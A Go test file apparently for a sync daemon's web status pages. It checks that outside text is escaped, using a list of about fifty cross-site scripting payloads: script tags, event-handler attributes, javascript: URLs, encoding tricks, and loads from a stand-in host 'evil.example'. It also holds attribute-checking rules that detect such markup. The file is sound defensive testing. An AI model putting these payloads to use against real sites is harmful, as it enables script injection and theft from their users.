package serve_test

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/net/html"

	"github.com/wedatasync/wedatasync/internal/serve"
	"github.com/wedatasync/wedatasync/reconcile"
	"github.com/wedatasync/wedatasync/reconcile/plan"
	"github.com/wedatasync/wedatasync/spec"
	"github.com/wedatasync/wedatasync/state"
)

// attacks are texts that do something to a page that does not escape them.
func attacks() []string {
	return []string{
		`<script>alert(1)</script>`,
		`</script><script>alert(1)</script>`,
		`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
		`<img src=x onerror=alert(1)>`,
		`<img/src=x/onerror=alert(1)//`,
		`"><svg onload=alert(1)>`,
		`'><svg onload=alert(1)>`,
		`<svg><script>alert(1)</script></svg>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<iframe src=javascript:alert(1)>`,
		`<iframe srcdoc="<script>alert(1)</script>">`,
		`<object data=javascript:alert(1)>`,
		`<embed src=javascript:alert(1)>`,
		`<a href=javascript:alert(1)>x</a>`,
		`javascript:alert(1)`,
		`JaVaScRiPt:alert(1)`,
		`java&#x09;script:alert(1)`,
		`data:text/html,<script>alert(1)</script>`,
		`vbscript:msgbox(1)`,
		`//evil.example/path`,
		`https://evil.example/?q=1`,
		`\\evil.example\share`,
		`" onmouseover="alert(1)`,
		`' onmouseover='alert(1)`,
		"` onmouseover=`alert(1)",
		`" autofocus onfocus=alert(1) x="`,
		`" style="background:url(//evil.example)`,
		`<style>*{background:url(//evil.example)}</style>`,
		`<link rel=stylesheet href=//evil.example/x.css>`,
		`<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<base href=//evil.example/>`,
		`<form action=//evil.example><input name=q>`,
		`</title><script>alert(1)</script>`,
		`</textarea><script>alert(1)</script>`,
		`</code></td></tr></table><script>alert(1)</script>`,
		`--><script>alert(1)</script><!--`,
		`<!--<img src="--><img src=x onerror=alert(1)//">`,
		`<![CDATA[<script>alert(1)</script>]]>`,
		`<?xml version="1.0"?><script>alert(1)</script>`,
		`{{.Version}}{{template "head" .}}`,
		`{{printf "%s" "<script>"}}`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`,
		`&#60;script&#62;alert(1)&#60;/script&#62;`,
		`%3Cscript%3Ealert(1)%3C/script%3E`,
		"\u202e<script>alert(1)</script>",
		"\x00<script>alert(1)</script>",
		"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
		"<script\x0d\x0a>alert(1)</script>",
		`<details open ontoggle=alert(1)>`,
	}
}

// TestNothingFromOutsideIsMarkup puts each text in every field that comes from
// outside. A page then has the very elements and attributes that it has with a
// harmless text: whatever the text says is text.
func TestNothingFromOutsideIsMarkup(t *testing.T) {
	if n := len(attacks()); n < 50 {
		t.Fatalf("%d texts", n)
	}
	want := shapes(t, "harmless")
	for i, text := range attacks() {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			t.Parallel()
			got := shapes(t, text)
			for _, name := range slices.Sorted(mapKeys(want)) {
				if diff := cmp.Diff(want[name], got[name]); diff != "" {
					t.Errorf("page %s is another one with %q (-want +got):\n%s", name, text, diff)
				}
			}
		})
	}
}

func mapKeys[K comparable, V any](m map[K]V) func(func(K) bool) {
	return func(yield func(K) bool) {
		for k := range m {
			if !yield(k) {
				return
			}
		}
	}
}

// shapes returns the elements of each page of a daemon that has the text everywhere.
func shapes(t *testing.T, text string) map[string][]string {
	now := time.Now()
	k := keyOf(text)
	d := newDaemon(t, poisoned(text, now), poisonedHistory(text, now)...)
	s := d.serve(t)
	o := s.Observer()
	o.Planned(d.status.Plan)
	for i := range d.status.Plan.Changes {
		c := &d.status.Plan.Changes[i]
		if c.Have != nil && c.Have.Attempt != nil {
			o.Called(c, c.Have, c.Have.Attempt.Outcome)
		}
	}
	o.Passed(&reconcile.Result{Plan: d.status.Plan, Left: d.status.Plan})
	return map[string][]string{
		"home":    elements(t, page(t, s, "/")),
		"tasks":   elements(t, page(t, s, "/tasks?q="+url.QueryEscape(k.TaskID))),
		"search":  elements(t, page(t, s, "/tasks?q="+url.QueryEscape(text)+"&standing="+url.QueryEscape(text))),
		"task":    elements(t, page(t, s, "/task/"+url.PathEscape(k.ProjectID)+"/"+url.PathEscape(k.TaskID))),
		"history": elements(t, page(t, s, "/history")),
		"missing": elements(t, get(t, s, "/"+url.PathEscape(text)).Body.String()),
	}
}

// keyOf makes an id of the text: the state takes printable characters without spaces.
func keyOf(text string) spec.Key {
	id := strings.Map(func(r rune) rune {
		if r <= ' ' || r > '~' {
			return '_'
		}
		return r
	}, text)
	return spec.Key{ProjectID: id[:min(len(id), 128)], TaskID: id[:min(len(id), 128)]}
}

// poisoned is a status with the text in every field that can hold it.
func poisoned(text string, now time.Time) reconcile.Status {
	s := troubledStatus(now)
	k := keyOf(text)
	p := s.Plan
	p.Source = plan.SourceInfo{URL: text, Branch: text, Revision: text, Author: text, Subject: text, Unverified: text}
	p.Approved = text
	for i := range p.Changes {
		c := &p.Changes[i]
		c.Detail = text
		c.Fields = []plan.Field{{Name: text, Before: text, After: text}, {Name: text, Before: text, After: text, Secret: true}}
		if c.Want != nil {
			w := *c.Want
			w.VersionDesc, w.EventDesc, w.Rerun = text, text, text
			w.ExtConfig = []spec.Param{{Name: text, Value: text}}
			w.Pos.File = text
			c.Want = &w
		}
		if c.Have != nil {
			c.Have = poisonedRecord(text, c.Have)
		}
	}
	// One task by that name, which has all that a task can have.
	p.Changes[2].Key = k
	p.Changes[2].Have.Key = k
	slices.SortFunc(p.Changes, func(a, b plan.Change) int { return a.Key.Compare(b.Key) })
	p.Holds[0].Message = text
	for i := range p.Problems {
		p.Problems[i].Message, p.Problems[i].Pos.File = text, text
	}
	for i := range s.Control.Pauses {
		pause := &s.Control.Pauses[i]
		pause.Message = text
		if pause.ProjectID != "" {
			pause.ProjectID = k.ProjectID
		}
	}
	s.Control.Approvals[0].Actor, s.Control.Approvals[0].PlanHash = text, text
	s.Control.Suspended.Reason, s.Control.Suspended.Actor = text, text
	s.Source.Err = fmt.Errorf("poll the source: %s", text)
	s.Ledger.Err = fmt.Errorf("write the state: %s", text)
	s.Flying = []spec.Key{k}
	s.Look.Error = text
	for i := range s.Look.Drifted {
		d := &s.Look.Drifted[i]
		d.Operator, d.OperatedAt, d.Event, d.Locker, d.Detail = text, text, text, text, text
	}
	s.Look.Drifted[0].Key = k
	slices.SortFunc(s.Look.Drifted, func(a, b state.Drift) int { return a.Key.Compare(b.Key) })
	return s
}

func poisonedRecord(text string, have *state.Record) *state.Record {
	rec := *have
	if rec.Applied != nil {
		a := *rec.Applied
		a.VersionDesc, a.EventDesc, a.Revision, a.RequestID, a.TaskApproveID = text, text, text, text, text
		rec.Applied = &a
	}
	if rec.Attempt != nil {
		a := *rec.Attempt
		a.ID, a.Author, a.File, a.Reason, a.Wanted.Revision = text, text, text, text, text
		a.Outcome.Code, a.Outcome.Message, a.Outcome.RequestID = text, text, text
		a.Before = &state.Live{Locked: true, Locker: text, UpdateTime: text, OperateID: text}
		if a.NeedsOperator != "" {
			a.NeedsOperator = text
		}
		if a.Outcome.Locker != "" {
			a.Outcome.Locker = text
		}
		rec.Attempt = &a
	}
	if rec.Suspended != nil {
		rec.Suspended = &state.Suspension{Reason: text, Actor: text, At: rec.Suspended.At}
	}
	return &rec
}

// poisonedHistory is a task of that name, with an event of each kind.
func poisonedHistory(text string, now time.Time) []state.Transition {
	k := keyOf(text)
	rec := poisonedRecord(text, record(k, state.StatusRefused, state.Outcome{Class: state.ClassRefused}, now))
	var all []state.Transition
	for _, kind := range []state.EventKind{
		state.EventIntent, state.EventOutcome, state.EventReadBack, state.EventForgotten, state.EventAdopted,
		state.EventDrift, state.EventCommand, state.EventPause, state.EventRevision, state.EventState,
	} {
		all = append(all, saved(rec, state.Event{
			At: now, Kind: kind, Actor: text, Revision: text, Note: text, PlanHash: text, Attempt: text,
			Outcome: state.Outcome{Class: state.ClassRefused, Code: text, Message: text, RequestID: text},
			Before:  &state.Live{Locked: true, Locker: text}, After: &state.Live{Locked: true, Locker: text},
		}))
	}
	return all
}

// elements returns the elements of a page in order, each with the names of its
// attributes, and complains about what no page may have.
func elements(t *testing.T, body string) []string {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	var list []string
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		var line strings.Builder
		line.WriteString(n.Data)
		for _, a := range n.Attr {
			line.WriteString(" " + a.Key)
			checkAttribute(t, n, a)
		}
		if (n.Data == "script" || n.Data == "style") && n.FirstChild != nil {
			t.Errorf("<%s> has a text: %s", n.Data, n.FirstChild.Data)
		}
		list = append(list, line.String())
	}
	return list
}

// checkAttribute holds attributes to what the page's policy relies on.
func checkAttribute(t *testing.T, n *html.Node, a html.Attribute) {
	t.Helper()
	switch {
	case strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "srcdoc":
		t.Errorf("<%s> has the attribute %s", n.Data, a.Key)
	case a.Key == "href" || a.Key == "src" || a.Key == "action":
		if a.Val != "#main" && (!strings.HasPrefix(a.Val, "/") || strings.HasPrefix(a.Val, "//") || strings.HasPrefix(a.Val, `/\`)) {
			t.Errorf("<%s %s=%q> leads elsewhere", n.Data, a.Key, a.Val)
		}
	}
}

// TestPagesOfTasksWithOddNames finds a task by its link, whatever it is called.
func TestPagesOfTasksWithOddNames(t *testing.T) {
	t.Parallel()
	now := time.Now()
	for _, id := range []string{"a/b", "a%2Fb", "a?b#c", "a//b", "..a", "{x}", "a+b&c=d", "任务", `a"b'c<d>`, "%", "a;b"} {
		k := spec.Key{ProjectID: project, TaskID: id}
		s := healthy(emptyPlan(), now)
		held(s.Plan, k, plan.HoldRefused, nil)
		srv := newDaemon(t, s).serve(t)
		if got := texts(t, page(t, srv, taskLink(t, srv, id)), "h1"); !slices.Equal(got, []string{id}) {
			t.Errorf("the page of %q has the headings %q", id, got)
		}
	}
	for _, id := range []string{".", ".."} {
		s := healthy(emptyPlan(), now)
		held(s.Plan, spec.Key{ProjectID: project, TaskID: id}, plan.HoldRefused, nil)
		if body := page(t, newDaemon(t, s).serve(t), "/"); strings.Contains(body, `href="/task/`) {
			t.Errorf("task %q has a link, which browsers would resolve to another page", id)
		}
	}
}

// taskLink returns the one link to a task that the status page has.
func taskLink(t *testing.T, s *serve.Server, id string) string {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(page(t, s, "/")))
	if err != nil {
		t.Fatal(err)
	}
	for n := range doc.Descendants() {
		for _, a := range n.Attr {
			if a.Key == "href" && strings.HasPrefix(a.Val, "/task/") {
				return a.Val
			}
		}
	}
	t.Fatalf("task %q has no link", id)
	return ""
}
